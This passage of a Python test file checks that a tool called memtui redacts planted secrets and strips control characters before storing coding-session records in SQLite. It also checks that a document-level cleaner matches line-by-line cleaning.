    assert proc.returncode == 0, proc.stderr
    assert "Traceback" not in proc.stderr
    data = b"".join(p.read_bytes() for p in sorted(tmp_path.glob("e2e.db*")))  # the file, -wal and -shm
    assert len(data) > 10_000
    leaks = []
    for name, (secret, _) in planted.items():
        if name.startswith("codex_") and not codex:
            continue
        for piece in _pieces(secret):
            for form in {piece, json.dumps(piece)[1:-1]}:
                if form.encode() in data:
                    leaks.append((name, form[:40]))
    assert leaks == []
    kinds = {kind for name, (_, kind) in planted.items() if codex or not name.startswith("codex_")}
    missing = [kind for kind in sorted(kinds) if f"[REDACTED:{kind}]".encode() not in data]
    assert missing == []
    for esc in ESC_BYTES:
        assert esc not in data, esc
    assert b"[bold red]markup[/] stays" in data  # markup-like text is stored as it is

    # no stored text of any table holds a control character other than tab and newline
    con = sqlite3.connect(db)
    try:
        for (table,) in con.execute("SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE '%fts%'"):
            columns = [row[1] for row in con.execute(f"PRAGMA table_info({table})") if row[2].upper() in ("TEXT", "")]
            for column in columns:
                for (value,) in con.execute(f"SELECT {column} FROM {table} WHERE typeof({column}) = 'text'"):
                    bad = [c for c in value if (ord(c) < 32 and c not in "\t\n") or 0x7F <= ord(c) <= 0x9F]
                    assert not bad, (table, column, value[:80])
    finally:
        con.close()

    # and the stored rows read as intended
    con = sqlite3.connect(db)
    try:
        cwd, branch, title = con.execute(
            "SELECT cwd, git_branch, title FROM session WHERE tool = 'claude-code'"
        ).fetchone()
        remotes = [r for (r,) in con.execute("SELECT git_remote FROM project") if r]
        cut = con.execute("SELECT text, original_len FROM message WHERE text LIKE '%characters cut%'").fetchone()
    finally:
        con.close()
    assert cwd == "/home/dev/[REDACTED:openai_key]/project"
    assert branch == "fix/[REDACTED:aws_access_key]"
    assert title == "Rotate the leaked token [REDACTED:github_token]"
    if codex:
        assert remotes == ["https://x-access-token:[REDACTED:github_token]@github.com/org/repo.git"]
    assert cut is not None and cut[1] > 30_000
    assert "[REDACTED:github_token]" in cut[0] and "[REDACTED:gitlab_token]" in cut[0]


# --- clean_document: clean() of a long text, cleaning only the lines that could hold a secret ---


def _fed_strings() -> list[str]:
    """Every string the tests above feed the redactor through their parametrize lists (with each
    placeholder filled), the planted secrets in a few settings, and texts that look alike."""
    from memtui.core.redact import _CASE_TRAPS

    fills = [s for s, _ in _planted().values()]
    out: list[str] = []
    for fn in list(globals().values()):
        for mark in getattr(fn, "pytestmark", ()):
            if mark.name != "parametrize":
                continue
            for case in mark.args[1]:
                for value in case if isinstance(case, (tuple, list)) else (case,):
                    if isinstance(value, str):
                        out.append(value)
                        if "{" in value:
                            out.append(value.replace("{}", _rng.choice(fills)).replace("{pw}", _rng.choice(fills)))
    for secret in fills:
        out += [secret, f"use {secret} now", f"API_TOKEN={secret}", f'{{"password": "{secret}"}}',
                f"  --token {secret}", f"Authorization: Bearer {secret}", f"x=1; db_pass: '{secret}'",
                f"pre{secret}", f"{secret}.", f"é {secret} ü"]
    out += ["plain words about auth, tokens, keys and passwords", "a -- b", "e.g. x.y", "-----", "| --- | --- |",
            "token budget: 2000", "max_tokens=4096", "xoxb-short", "hello\r\nworld", "tab\there", "bell\x07",
            "ANSI \x1b[31mred\x1b[0m", "unicode ✅ → 幫我", *(f"pa{c}sword=hunter2{c}" for c in _CASE_TRAPS),
            f"to{_CASE_TRAPS[0]}en=abcdef123456", "İstanbul password: hunter2"]
    return out


_FILLER = [
    "Prefers small pure functions over classes", "Run `uv run pytest -q` before every commit",
    "The auth module talks to Redis through the cache client (#12).", "Docs live in docs/; see README.md",
    "Budget: 2000 tokens; the key is the session id", "Tried asyncio in the importer: slower, reverted",
    "Uses pnpm, not npm -- the lockfile is pnpm-lock.yaml", "I prefer explicit imports. Bump the version.",
]


def _document(lines: list[str]) -> str:
    return "# Curated context (memtui)\n\n## Conventions\n\n" + "\n".join(f"- {line}" for line in lines) + "\n"


def test_clean_document_is_clean_for_every_fed_string():
    from memtui.core.redact import clean_document

    filler = [_rng.choice(_FILLER) for _ in range(60)]
    for text in _fed_strings():
        doc = _document(filler[:30] + [text] + filler[30:])
        assert len(doc) >= 4096 or clean_document(doc) == clean(doc)
        assert clean_document(doc) == clean(doc), text[:80]
        assert clean_document(text * 3 + "\n" + doc) == clean(text * 3 + "\n" + doc), text[:80]


def test_clean_document_on_mixed_documents():
    from memtui.core.redact import clean_document

    fed = _fed_strings()
    for _ in range(40):
        lines = [_rng.choice(fed) if _rng.random() < 0.2 else _rng.choice(_FILLER) for _ in range(200)]
        doc = _document(lines)
        assert clean_document(doc) == clean(doc)


def test_clean_document_flags_every_line_clean_would_change():
    from memtui.core.redact import _doc_lines

    from memtui.core.redact import _CASE_TRAPS

    for text in _fed_strings():
        line = text.replace("\n", " ")
        if strip_control(line) != line or any(c in line for c in _CASE_TRAPS):
            continue  # clean_document() hands these to clean() whole, before looking at lines
        if clean(line) != line:
            spans = _doc_lines(line.encode("utf-8", "surrogatepass"))
            assert spans is None or spans, line[:80]


def test_clean_document_leaves_a_document_without_secrets_as_it_is():
    from memtui.core.redact import clean_document

    doc = _document([_rng.choice(_FILLER) for _ in range(2000)])
    assert clean_document(doc) is doc
